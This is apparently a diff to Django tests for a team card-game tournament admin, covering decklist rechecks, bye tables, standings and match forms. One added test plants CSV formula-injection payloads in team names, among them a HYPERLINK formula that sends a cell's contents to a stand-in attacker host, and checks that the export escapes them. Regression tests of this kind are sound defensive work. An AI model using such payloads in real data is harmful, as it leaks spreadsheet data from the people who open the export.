@@ -254,7 +254,7 @@ def test_admin_recheck_decklists_action(client, organizer, _bundled_cards):
     event.extra_banned = "Lightning Bolt"
     event.save()
     response = _action(client, "event", "recheck_decklists", [event.pk])
-    assert "decklists of 1 team(s) checked again" in response.content.decode()
+    assert "decklists of 1 team checked again" in response.content.decode()
     registration.refresh_from_db()
     assert registration.deck_problems
 
@@ -266,7 +266,7 @@ def test_admin_deck_rule_change_rechecks_decklists(client, organizer, _bundled_c
     response = client.post(
         reverse("admin:tournaments_event_change", args=[event.pk]), _event_post(event, deck_rule="no-shared"), follow=True
     )
-    assert "Decklists of 1 team(s) checked again under the new settings." in response.content.decode()
+    assert "Decklists of 1 team checked again under the new settings." in response.content.decode()
     registration.refresh_from_db()
     assert any(p["card"] == "Lightning Bolt" for p in registration.deck_problems)
 
@@ -276,8 +276,8 @@ def test_admin_printable_pairings_by_table_are_in_table_order(client, organizer)
     round_ = round_pair_next(event=event, seed=3)
     page = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk])).content.decode()
     by_table = page[page.index("By table"):page.index("By team")]
-    tables = sorted(round_.matches.values_list("table", flat=True))
-    assert tables == [1, 2, 3, 4, 5]
+    tables = sorted(round_.matches.filter(team_b__isnull=False).values_list("table", flat=True))
+    assert tables == [1, 2, 3, 4]  # the bye is at no table
     positions = [by_table.index(f"<tr><td>{table}</td>") for table in tables]
     assert positions == sorted(positions)
 
@@ -289,3 +289,74 @@ def test_admin_printable_pairings_with_a_bad_round_number_shows_the_latest_round
     response = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk]), {"round": bad})
     assert response.status_code == 200
     assert registrations[0].team.name in response.content.decode()
+
+
+def test_admin_standings_csv_escapes_team_names_a_spreadsheet_would_run_as_formulas(client, organizer):
+    # Defect 7 (issue 19): a team named =HYPERLINK(...) became a live formula in the organizer's spreadsheet.
+    event, registrations = _event()
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    for registration, name in zip(registrations, evil):
+        registration.team.name = name
+        registration.team.save()
+    response = client.get(reverse("admin:tournaments_event_standings_csv", args=[event.pk]))
+    teams = [row[1] for row in list(csv.reader(io.StringIO(response.content.decode())))[1:]]
+    assert sorted(teams) == sorted("'" + name for name in evil)
+    assert all(team.startswith("'") for team in teams)
+
+
+def test_admin_standings_name_the_opponents_and_mark_dropped_teams(client, organizer):
+    event, registrations = _event()
+    round_ = round_pair_next(event=event, seed=3)
+    for match in round_.matches.all():
+        team_match_record_final(match=match, user=organizer, seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)])
+    registrations[0].dropped_round = 1
+    registrations[0].save()
+    page = client.get(reverse("admin:tournaments_event_standings", args=[event.pk])).content.decode()
+    opponent = TeamMatch.objects.get(round=round_, team_a=registrations[0]) if TeamMatch.objects.filter(
+        round=round_, team_a=registrations[0]).exists() else TeamMatch.objects.get(round=round_, team_b=registrations[0])
+    other = opponent.team_b if opponent.team_a_id == registrations[0].pk else opponent.team_a
+    assert f"average of {other.team.name}: " in page
+    assert "#%d:" % other.pk not in page and "[#" not in page
+    row = page[page.index(f"<td>{registrations[0].team.name}"):]
+    assert row[: row.index("</td>")].endswith("(dropped after round 1)</span>")
+
+
+def test_admin_standings_in_german_translate_the_explanations(client, organizer):
+    event, _ = _event()
+    page = client.get(reverse("admin:tournaments_event_standings", args=[event.pk]),
+                      HTTP_ACCEPT_LANGUAGE="de").content.decode()
+    assert "nothing played" not in page and "no opponents" not in page
+
+
+def test_admin_printable_pairings_give_the_bye_no_table_number(client, organizer):
+    event, registrations = _event(teams=5)
+    round_ = round_pair_next(event=event, seed=3)
+    bye = round_.matches.get(team_b__isnull=True)
+    page = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk])).content.decode()
+    by_table = page[page.index("By table"):page.index("By team")]
+    assert f"<tr><td>—</td><td>{bye.team_a.team.name}</td>" in by_table
+    by_team = page[page.index("By team"):]
+    assert f"<tr><td>{bye.team_a.team.name}</td><td>—</td>" in by_team
+
+
+def test_admin_team_match_form_shows_seat_letters_and_players_and_what_saving_does(client, organizer):
+    event, registrations = _event()
+    round_ = round_pair_next(event=event, seed=3)
+    match = round_.matches.filter(team_b__isnull=False).first()
+    page = client.get(reverse("admin:tournaments_teammatch_change", args=[match.pk])).content.decode()
+    for k, letter in enumerate("ABC"):
+        assert f'name="seat_matches-{k}-letter"' in page
+    assert page.count('value="A" selected') + page.count('<option value="A" selected>') >= 1
+    assert 'name="games_won_a"' not in page and 'name="games_drawn"' not in page
+    assert "counts in the standings at once" in page
+
+
+def test_admin_team_match_seat_line_names_both_players(client, organizer):
+    event, registrations = _event()
+    round_ = round_pair_next(event=event, seed=3)
+    match = round_.matches.filter(team_b__isnull=False).first()
+    team_match_record_final(match=match, user=organizer, seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)])
+    page = client.get(reverse("admin:tournaments_teammatch_change", args=[match.pk])).content.decode()
+    a = match.team_a.seats.get(letter="A").player.name
+    b = match.team_b.seats.get(letter="A").player.name
+    assert f"{a} against {b}" in page
